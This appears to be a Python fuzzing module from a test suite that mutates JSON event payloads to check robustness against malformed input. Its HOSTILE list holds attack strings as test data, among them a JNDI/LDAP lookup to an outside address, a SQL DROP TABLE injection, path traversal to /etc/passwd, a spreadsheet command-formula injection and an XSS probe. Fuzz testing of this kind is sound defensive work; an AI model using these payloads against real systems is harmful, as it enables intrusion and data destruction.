"""Mutates payloads: changes the bytes, values and structure of good payloads of every envelope at random."""

from __future__ import annotations

import json
from functools import lru_cache
from typing import TYPE_CHECKING, Any

from tests.simulation.workload import NOW_MS

from opsctl import sample
from opsledger import catalog

if TYPE_CHECKING:
    import random
    from collections.abc import Callable

HOSTILE: tuple[str, ...] = (
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b31m",
    '\r\n{"event":"done","request_id":"forged"}\n',
    "\x00",
    "\x7f\x08\x08\x08",
    "\u202egnp.exe\u2066",
    "\u200b\ufeff\u2028\u2029",
    "[bold red]markup[/]",
    "${jndi:ldap://203.0.113.1/a}",
    "'; DROP TABLE records; --",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "e\u0301" * 40,
    "A" * 3000,
    "9" * 400,
    "",
    " ",
)
"""Text that does harm where it is not escaped: terminal codes, forged log lines, markup, injections, long text."""
VALUES: tuple[Any, ...] = (
    None, True, False, 0, -1, 2**31, 2**63, 10**30, 1e308, -0.0, [], {}, [[]], [None], {"": ""}, {"a": {"b": [1]}},
    *HOSTILE,
)  # fmt: skip
TOKENS: tuple[bytes, ...] = (
    b"NaN", b"Infinity", b"-", b"1e999", b"9" * 5000, b"\\ud800", b"\\u0000", b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80",
    b"\xef\xbb\xbf", b'"', b"\\", b"{", b"}", b"[", b"]", b",", b":", b"null", b"\n", b"\x00", b"\x1b[31m", b"[" * 100,
)  # fmt: skip
ENCODINGS = ("utf-16", "utf-16-le", "utf-32", "utf-8-sig", "gb18030", "latin-1")


@lru_cache
def corpus() -> tuple[tuple[str, bytes], ...]:
    """A good payload of every kind in every envelope and wrapper, and batches of them in every form, with names."""
    found: dict[str, Any] = {}
    for spec in catalog.event_types():
        for form in sample.all_forms(spec):
            status = sample.statuses(spec)[0]
            event = sample.event(spec, status, form, seed=spec.type, now_ms=NOW_MS)
            found.setdefault(f"{spec.kind.name}, {form}", event)
            for name in sample.wrappings(form):
                found.setdefault(f"{spec.kind.name}, {name}", sample.wrapped(name, event, sample.Names.of(spec.type)))
    alone = [(name, json.dumps(event)) for name, event in found.items()]
    texts = [text for _, text in alone]
    batches = []
    for start in range(0, len(texts), 3):
        some = texts[start : start + 3]
        whole = f"[{','.join(some)}]"
        batches += [("array", whole), ("array of strings", json.dumps(some)), ("array in a string", json.dumps(whole))]
        batches.append(("object in a string", json.dumps(some[0])))
    return tuple((name, text.encode()) for name, text in (*alone, *batches))


def mutate(rng: random.Random, payload: bytes) -> bytes:
    """`payload` with one to three random changes."""
    for _ in range(rng.choice((1, 1, 2, 3))):
        payload = rng.choice(_MUTATIONS)(rng, payload)
    return payload


# ------------------------------------------------------------------------------------------------------ bytes
def _flipped(rng: random.Random, payload: bytes) -> bytes:
    place = rng.randrange(len(payload) or 1)
    return payload[:place] + bytes([rng.randrange(256)]) + payload[place + 1 :]


def _cut(rng: random.Random, payload: bytes) -> bytes:
    start = rng.randrange(len(payload) or 1)
    return payload[:start] + payload[start + rng.choice((1, 3, 20, 10_000)) :]


def _doubled(rng: random.Random, payload: bytes) -> bytes:
    start = rng.randrange(len(payload) or 1)
    end = start + rng.choice((1, 10, 100))
    return payload[:end] + payload[start:]


def _inserted(rng: random.Random, payload: bytes) -> bytes:
    place = rng.randrange(len(payload) + 1)
    return payload[:place] + rng.choice(TOKENS) + payload[place:]


def _spliced(rng: random.Random, payload: bytes) -> bytes:
    other = rng.choice(corpus())[1]
    return payload[: rng.randrange(len(payload) + 1)] + other[rng.randrange(len(other)) :]


def _encoded(rng: random.Random, payload: bytes) -> bytes:
    return payload.decode(errors="replace").encode(rng.choice(ENCODINGS), errors="replace")


# ----------------------------------------------------------------------------------------------------- values
def _value_changed(rng: random.Random, payload: bytes) -> bytes:
    try:
        value = json.loads(payload)
    except (ValueError, RecursionError):
        return _inserted(rng, payload)
    if isinstance(value, str):  # JSON in a JSON string
        return json.dumps(_value_changed(rng, value.encode(errors="replace")).decode(errors="replace")).encode()
    nodes = list(_nodes(value))
    if not nodes:
        return json.dumps(rng.choice(VALUES)).encode()
    parent, key = rng.choice(nodes)
    rng.choice(_CHANGES)(rng, parent, key)
    return json.dumps(value, ensure_ascii=rng.random() < 0.5).encode(errors="surrogatepass")


def _nodes(value: Any) -> list[tuple[Any, Any]]:
    """Every place in `value`: a container, and a key or an index in it."""
    found: list[tuple[Any, Any]] = []
    level = [value]
    while level:
        item = level.pop()
        inside = item.items() if isinstance(item, dict) else enumerate(item) if isinstance(item, list) else ()
        for key, below in inside:
            found.append((item, key))
            level.append(below)
    return found


def _replaced(rng: random.Random, parent: Any, key: Any) -> None:
    parent[key] = rng.choice(VALUES)


def _removed(_rng: random.Random, parent: Any, key: Any) -> None:
    del parent[key]


def _added(rng: random.Random, parent: Any, key: Any) -> None:
    parent[key] = f"{parent[key]}{rng.choice(HOSTILE)}"


def _renamed(rng: random.Random, parent: Any, key: Any) -> None:
    if isinstance(parent, dict):
        parent[rng.choice((str(key).upper(), str(key)[1:], rng.choice(HOSTILE)))] = parent.pop(key)
    else:
        parent.append(parent[key])


def _nested(rng: random.Random, parent: Any, key: Any) -> None:
    value = parent[key]
    for _ in range(rng.choice((1, 2, 60, 300))):
        value = [value]
    parent[key] = value


def _as_text(_rng: random.Random, parent: Any, key: Any) -> None:
    parent[key] = json.dumps(parent[key])


_CHANGES = (_replaced, _replaced, _removed, _added, _added, _renamed, _nested, _as_text)
_MUTATIONS: tuple[Callable[[random.Random, bytes], bytes], ...] = (
    *(_value_changed,) * 6, _flipped, _cut, _doubled, _inserted, _inserted, _spliced, _encoded,
)  # fmt: skip
